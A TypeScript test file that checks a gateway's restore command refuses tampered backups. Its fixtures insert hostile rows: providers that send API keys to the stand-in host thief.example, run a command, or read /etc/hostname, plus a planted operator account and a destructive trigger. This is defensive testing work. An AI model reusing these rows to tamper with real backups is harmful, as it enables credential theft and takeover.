/** A backup that another person has changed: its rows must not act before the operator consents. */

import { Database } from "bun:sqlite";
import { afterEach, beforeEach, expect, test } from "bun:test";
import {
  createReadStream,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { openBackup } from "../../../src/backup/reader.ts";
import { writeBackup } from "../../../src/backup/writer.ts";
import { createHome, type Home } from "../../setup/child.ts";

let home: Home;
let folder: string;
let file: string;
beforeEach(async () => {
  home = createHome();
  folder = join(home.dataDir, "..", "elsewhere");
  mkdirSync(folder);
  file = join(folder, "own.svcbackup");
  await home.json(["account", "create", "acme"]);
  await home.json(["backup", file]);
});
afterEach(() => home.remove());

const target = () => join(folder, "restored");
const secret = () => ({ SVC_SECRET: readFileSync(join(home.dataDir, "secret"), "utf8").trim() });
const restore = (from: string, ...more: string[]) =>
  home.svc(["restore", from, "--data-dir", target(), ...more], { environment: secret() });

/** The same backup with other rows and right checksums, as anyone can write it. */
async function changed(...statements: readonly string[]): Promise<string> {
  const passphrase = () => Promise.reject(new Error("not encrypted"));
  const bytes = createReadStream(file);
  const backup = await openBackup({ name: "own", bytes, passphrase });
  const pieces: Uint8Array[] = [];
  for await (const piece of backup.database()) pieces.push(piece);
  const path = join(folder, "changed.db");
  writeFileSync(path, Buffer.concat(pieces));
  const raw = new Database(path);
  for (const statement of statements) raw.run(statement);
  raw.run("PRAGMA journal_mode = DELETE");
  raw.close();
  const database = readFileSync(path);
  const parts: Uint8Array[] = [];
  const { header } = backup;
  const about = { ...backup.about, databaseBytes: database.length };
  const chunks = Array.from({ length: Math.ceil(database.length / 2 ** 20) }, (_, at) =>
    database.subarray(at * 2 ** 20, (at + 1) * 2 ** 20),
  );
  // The mark of the original belongs to another content.
  const markOf = () => backup.end.mark;
  const write = (part: Uint8Array) => Promise.resolve(void parts.push(part));
  await writeBackup({ header, about, markOf, database: chunks }, { write });
  const to = join(folder, "changed.svcbackup");
  writeFileSync(to, Buffer.concat(parts));
  return to;
}

const provider = (name: string, reference: string) =>
  `insert into providers (name, kind, base_url, api_key, allow_private)
   values ('${name}', 'openai', 'https://thief.example/v1', '{"variable":"${reference}"}', 0)`;

test("a backup of one's own needs no consent", async () => {
  expect((await restore(file)).code).toBe(0);
});

test("rows that another person has written are listed and refused, and nothing has run", async () => {
  const proof = join(folder, "ran");
  const backup = await changed(
    provider("runs", `command:/usr/bin/touch ${proof}`),
    provider("reads", "file:/etc/hostname"),
    provider("sends", "OPENAI_API_KEY"),
    `insert into users (id, email, name, password_hash, is_operator, operator_by_identity, created_at_ms)
     values ('u1', 'thief@thief.example', 'Thief', 'x', 1, 0, 1)`,
  );
  const { code, stderr } = await restore(backup);
  expect(code).toBe(1);
  expect(stderr).toContain(`provider runs runs /usr/bin/touch ${proof} for thief.example`);
  expect(stderr).toContain("provider reads reads the file /etc/hostname for thief.example");
  expect(stderr).toContain("provider sends sends the variable OPENAI_API_KEY to thief.example");
  expect(stderr).toContain("thief@thief.example administers the gateway");
  expect([existsSync(join(target(), "svc.db")), existsSync(proof)]).toEqual([false, false]);
  expect((await restore(backup, "--trust")).code).toBe(0);
  expect(existsSync(proof)).toBe(false);
});

test("a passphrase does not show who wrote a backup that brings its own secret", async () => {
  const environment = { SVC_BACKUP_PASSPHRASE: "a passphrase of a stranger" };
  const encrypted = join(folder, "encrypted.svcbackup");
  await home.json(["backup", encrypted], { environment });
  const words = ["restore", encrypted, "--data-dir", target()];
  const { code, stderr } = await home.svc(words, { environment });
  expect([code, stderr]).toEqual([
    1,
    expect.stringContaining("this machine does not have the master secret of the backup"),
  ]);
  expect(existsSync(join(target(), "secret"))).toBe(false);
  expect((await home.svc([...words, "--trust"], { environment })).code).toBe(0);
  rmSync(target(), { recursive: true });
  const known = { environment: { ...environment, ...secret() } };
  expect((await home.svc(words, known)).code).toBe(0);
});

test("stored keys that would go to another host, and another schema, are listed", async () => {
  const { stderr } = await restore(
    await changed(
      `insert into providers (name, kind, base_url, api_key, allow_private)
       values ('moved', 'openai', 'https://thief.example/v1', '{"sealed":"x"}', 0)`,
      "create index mine on accounts (name)",
    ),
  );
  expect(stderr).toContain("provider moved sends prompts and any stored keys to thief.example");
  expect(stderr.match(/the .* is not as a gateway creates it/g)).toEqual([
    "the index mine is not as a gateway creates it",
  ]);
});

test("a trigger or a view is refused, also with consent", async () => {
  for (const program of [
    "create trigger t after insert on receipts begin delete from receipts; end",
    "create view v as select 1",
  ]) {
    const { code, stderr } = await restore(await changed(program), "--trust");
    expect([code, stderr.includes("which no gateway writes")]).toEqual([1, true]);
    expect(existsSync(join(target(), "svc.db"))).toBe(false);
  }
});
